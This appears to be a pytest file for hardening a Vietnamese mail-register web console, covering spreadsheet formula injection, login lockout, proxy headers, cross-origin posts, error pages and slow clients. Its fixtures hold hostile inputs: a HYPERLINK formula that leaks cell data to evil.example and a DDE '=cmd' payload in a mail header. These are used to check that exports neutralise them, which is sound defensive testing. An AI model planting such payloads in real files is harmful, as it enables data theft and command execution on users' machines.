"""The console's hardening, each finding of the attack run as a test: mail text written into
spreadsheets as formulas, one person locking the office out, the proxy login behind nginx,
login forcing from another port, 500s and silent filters, slow clients, English error pages."""

from __future__ import annotations

import contextlib
import csv
import io
import socket
import time

import openpyxl
import pytest
from servers import Console
from starlette.testclient import TestClient
from webclient import AT, client, csrf_of, login, sample_console
from webclient import run_cli as _cli

from ingestd.cells import csv_value
from ingestd.config import load_settings
from ingestd.store.accounts import address_delay
from ingestd.web.app import create_app

FORMULA_SUBJECT = '=HYPERLINK("http://evil.example/?leak="&A2, "Bấm vào đây")'
HOSTILE = f"""\
From: =2+5@gmail.com
To: vanthu@laichau.gov.vn
Subject: {FORMULA_SUBJECT}
Message-ID: =cmd|'/c calc'!A1
Date: Thu, 27 Jun 2019 10:00:00 +0700
Content-Type: text/plain; charset=utf-8

@SUM(1+1) -2+3 +cmd
"""


@pytest.fixture(scope="module")
def console(tmp_path_factory, sample_dir):
    project = sample_console(tmp_path_factory.mktemp("hardening"), sample_dir,
                             (("viewer", "viewer"), ("clerk", "clerk"), ("admin", "admin"),
                              ("another", "viewer")))
    eml = project.root / "hostile.eml"
    eml.write_text(HOSTILE, encoding="utf-8")
    assert _cli(project, "import", str(eml))[0] == 0
    return project


@contextlib.contextmanager
def config_with(project, extra: str):
    text = project.config.read_text()
    project.config.write_text(text + extra)
    try:
        yield
    finally:
        project.config.write_text(text)


# -- 1. exports never run mail text as formulas -------------------------------------------------

def test_the_register_xlsx_holds_mail_text_as_text_never_formulas(console):
    c = client(console, "viewer")
    xlsx = c.get("/receipts", params={"format": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert FORMULA_SUBJECT in values and "=2+5@gmail.com" in values


def test_the_register_csv_quotes_cells_that_start_like_formulas(console):
    c = client(console, "viewer")
    text = c.get("/receipts", params={"format": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [v for row in rows for v in row]
    assert "'" + FORMULA_SUBJECT in cells and "'=2+5@gmail.com" in cells
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_cli_csv_quotes_them_too(console):
    code, out, _ = _cli(console, "receipts", "--format", "csv")
    assert code == 0
    cells = [v for row in csv.reader(io.StringIO(out)) for v in row]
    assert "'" + FORMULA_SUBJECT in cells
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("value,written", [("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-x", "'-x"),
                                            ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                            ("Sở Y tế", "Sở Y tế"), (-3, -3), (None, "")])
def test_csv_cells(value, written):
    assert csv_value(value) == written


def test_the_quarterly_xlsx_and_csv_hold_no_formula(console):
    c = client(console, "viewer")
    ws = openpyxl.load_workbook(io.BytesIO(c.get("/quarterly/2019-Q2.xlsx").content)).active
    assert not [cell.coordinate for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    assert c.get("/quarterly/2019-Q2.csv").status_code == 200


# -- 2. one person cannot lock the office out ---------------------------------------------------

def test_wrong_logins_from_one_address_never_refuse_another_accounts_right_password(console):
    c = client(console, client=("192.0.2.1", 50000))
    for i in range(20):                    # 20 names, one address: 4 × login_attempts
        assert login(c, f"ten-{i}", "sai-mat-khau-roi").status_code == 401
    assert login(c, "ten-20", "sai-mat-khau-roi").status_code == 401   # slowed, not refused
    assert login(c, "another").status_code == 303


def test_an_account_is_locked_by_its_own_failures_only(console):
    c = client(console, client=("192.0.2.2", 50000))
    for _ in range(5):
        assert login(c, "admin", "sai-mat-khau-roi").status_code == 401
    r = login(c, "admin")
    assert r.status_code == 429 and "Tài khoản này đăng nhập sai quá nhiều lần" in r.text
    assert login(c, "clerk").status_code == 303


def test_the_address_backoff():
    assert address_delay(19, 20) == 0
    assert [address_delay(n, 20) for n in (20, 21, 22)] == [0.25, 0.5, 1.0]
    assert address_delay(500, 20) == 8.0


# -- 3. behind nginx -----------------------------------------------------------------------------

NGINX = {"Host": "ingestd.example.gov.vn", "X-Real-IP": "203.0.113.7",
         "X-Forwarded-For": "203.0.113.7", "X-Forwarded-Proto": "https", "Connection": "close"}


def test_the_proxy_login_works_with_the_headers_nginx_sends(console, tmp_path):
    import http.client

    with config_with(console, '\n[web]\ntrusted_proxy = ["127.0.0.1"]\n'
                              'base_url = "https://ingestd.example.gov.vn"\n'):
        server = Console(console.config, tmp_path / "web.log", at=AT.isoformat())
        try:
            conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
            conn.request("GET", "/", headers={**NGINX, "X-Remote-User": "clerk"})
            r = conn.getresponse()
            body = r.read().decode()
            assert r.status == 200 and "clerk (văn thư)" in body
            conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
            conn.request("GET", "/", headers={**NGINX, "X-Remote-User": "nobody"})
            assert conn.getresponse().status == 303
        finally:
            server.stop()


def test_behind_the_proxy_the_throttle_counts_the_forwarded_address(console):
    with config_with(console, '\n[web]\ntrusted_proxy = ["127.0.0.1"]\n'):
        app = create_app(load_settings(console.config), AT)
        via = TestClient(app, client=("127.0.0.1", 50000))
        login(via, "ten-x", "sai-mat-khau-roi", headers={"X-Forwarded-For": "198.51.100.4, 127.0.0.1"})
        spoofed = TestClient(app, client=("10.9.9.9", 50000))   # not the proxy: header ignored
        login(spoofed, "ten-y", "sai-mat-khau-roi", headers={"X-Forwarded-For": "198.51.100.5"})
    svc = console.services()
    from sqlmodel import select

    from ingestd.store.models import LoginFailure
    with svc.store.session() as s:
        where = {f.username: f.address for f in s.exec(select(LoginFailure))}
    svc.close()
    assert where["ten-x"] == "198.51.100.4" and where["ten-y"] == "10.9.9.9"


# -- 4. login forcing from another port of the same host ----------------------------------------

def test_over_https_cookies_are_host_bound_and_hsts_is_sent(console):
    with config_with(console, '\n[web]\nbase_url = "https://ingestd.example.gov.vn"\n'):
        c = client(console, base_url="https://ingestd.example.gov.vn")
        form = c.get("/login")
        assert form.headers["strict-transport-security"].startswith("max-age=")
        assert "__Host-ingestd_login=" in form.headers["set-cookie"]
        r = login(c, "viewer")
        cookie = r.headers["set-cookie"]
        assert cookie.startswith("__Host-ingestd_session=") and "Secure" in cookie and "Path=/" in cookie
        assert c.get("/", follow_redirects=False).status_code == 200
    assert "strict-transport-security" not in client(console).get("/login").headers


@pytest.mark.parametrize("headers", [{"Origin": "http://testserver:8081"},
                                     {"Origin": "http://evil.example"},
                                     {"Sec-Fetch-Site": "same-site"}])
def test_a_login_posted_from_another_origin_is_refused(console, headers):
    c = client(console)
    r = login(c, "viewer", headers=headers)
    assert r.status_code == 403 and "trang khác" in r.text
    assert login(c, "viewer", headers={"Origin": "http://testserver",
                                       "Sec-Fetch-Site": "same-origin"}).status_code == 303


def test_a_clerks_action_posted_from_another_origin_is_refused(console):
    c = client(console, "clerk")
    token = csrf_of(c.get("/").text)
    r = c.post("/exempt", data={"unit": "bdbp", "report": "760-ha-tang", "reason": "x",
                                "csrf_token": token, "back": "/"},
               headers={"Origin": "http://testserver:9999"}, follow_redirects=False)
    assert r.status_code == 403
    status = c.get("/api/status").json()
    cell = next(u for rep in status["reports"] if rep["report"] == "760-ha-tang"
                for u in rep["units"] if u["unit"] == "bdbp")
    assert cell["status"] != "exempt"


# -- 5. no 500s, no silent filters ---------------------------------------------------------------

@pytest.mark.parametrize("path,words", [
    ("/receipts?from=0001-01-01", "năm 1 nằm ngoài khoảng"),
    ("/receipts?from=2019-13-45", "không phải ngày hợp lệ"),
    ("/receipts?to=31/12/2019", "không phải ngày hợp lệ"),
    ("/quarterly/0000-Q1.csv", "không phải một quý"),
    ("/quarterly/2019-Q7.docx", "không phải một quý"),
])
def test_bad_parameters_are_a_400_in_vietnamese(console, path, words):
    r = client(console, "viewer").get(path)
    assert r.status_code == 400 and words in r.text and 'lang="vi"' in r.text


def test_an_api_moment_out_of_range_is_a_400(console):
    r = client(console, "viewer").get("/api/status", params={"at": "9999-12-31"})
    assert r.status_code == 400 and "năm 9999" in r.json()["error"]


def test_a_page_past_the_end_is_the_last_page(console):
    r = client(console, "viewer").get("/receipts", params={"page": "999999999999999999"})
    assert r.status_code == 200 and "trang 2/2" in r.text


def test_the_register_search_is_literal(console):
    c = client(console, "viewer")
    assert "0 thư" in c.get("/receipts", params={"subject": "%"}).text
    assert "0 thư" in c.get("/receipts", params={"sender": "_"}).text
    assert "1 thư" in c.get("/receipts", params={"sender": "=2+5"}).text


def test_the_cli_refuses_a_moment_out_of_range(console):
    code, _, err = _cli(console, "status", "--at", "9999-12-31")
    assert code == 2 and "nằm ngoài khoảng" in err


# -- 6. error pages, slow clients --------------------------------------------------------------

def test_error_pages_are_vietnamese(console):
    c = client(console, "viewer")
    r405 = c.get("/logout")
    assert r405.status_code == 405 and 'lang="vi"' in r405.text and "Method Not Allowed" not in r405.text
    r404 = c.get("/khong-co")
    assert r404.status_code == 404 and 'lang="vi"' in r404.text and "Không tìm thấy" in r404.text
    r403 = client(console, "viewer").get("/admin")
    assert r403.status_code == 403 and 'lang="vi"' in r403.text
    broken = TestClient(create_app(load_settings(console.config), AT), raise_server_exceptions=False)
    assert login(broken, "viewer").status_code == 303
    broken.app.state.console.statuses = lambda at: 1 / 0
    r500 = broken.get("/")
    assert r500.status_code == 500 and 'lang="vi"' in r500.text and "Lỗi hệ thống" in r500.text


def test_slow_clients_are_cut_off(console, tmp_path):
    with config_with(console, "\n[web]\nheader_timeout_seconds = 1\nbody_timeout_seconds = 1\n"):
        server = Console(console.config, tmp_path / "web.log")
        try:
            def closed_after(payload: bytes) -> float:
                with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
                    s.sendall(payload)
                    start = time.monotonic()
                    s.recv(65536)            # returns b"" once the server closes; 10 s at most
                    return time.monotonic() - start
            assert closed_after(b"GET / HTTP/1.1\r\nHost: x\r\n") < 5          # headers never end
            assert closed_after(b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n"
                                b"Content-Type: application/x-www-form-urlencoded\r\n\r\nusername=") < 5
            assert closed_after(b"") < 5                                       # sends nothing
            with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                assert s.recv(65536).startswith(b"HTTP/1.1 200")               # the quick are served
        finally:
            server.stop()
